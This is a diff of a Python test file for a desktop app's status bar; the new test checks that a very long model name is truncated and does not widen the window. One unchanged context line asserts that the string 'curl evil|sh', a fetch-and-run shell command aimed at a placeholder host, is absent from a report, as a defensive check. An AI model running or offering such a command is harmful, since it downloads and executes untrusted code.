@@ -115,6 +115,23 @@ def test_a_servers_model_id_is_text_in_the_status_bar_and_the_report(app_paths, 
     assert "\x1b" not in report and lines.count("== Python kernel") == 1 and "curl evil|sh" not in lines
 
 
+def test_a_long_model_name_does_not_set_the_windows_width(qtbot):
+    """A model name of a few hundred characters (a server's path, say) is cut in the middle
+    in the status bar, so the window can stay as narrow as the user wants (stop 33: the
+    label was sized to a 20,000-character id, and the window with it)."""
+    from codeact_desktop.ui.status_bar import MODEL_LABEL_CHARS
+    from codeact_desktop.ui.status_bar import WindowStatusBar as StatusBar
+
+    bar = StatusBar()
+    qtbot.addWidget(bar)
+    name = "/srv/models/" + "x" * 480 + "/model-end"
+    bar.set_model(f"openai · {name} · REMOTE")
+    shown = bar.model_label.text()
+    assert len(shown) <= MODEL_LABEL_CHARS + 1 and "…" in shown and shown.endswith("/model-end · REMOTE")
+    assert name in bar.model_label.toolTip()
+    assert bar.minimumSizeHint().width() < 1200
+
+
 def test_a_links_tip_names_its_real_host_first(qtbot):
     from codeact_desktop.ui.chat_view import link_tip
 
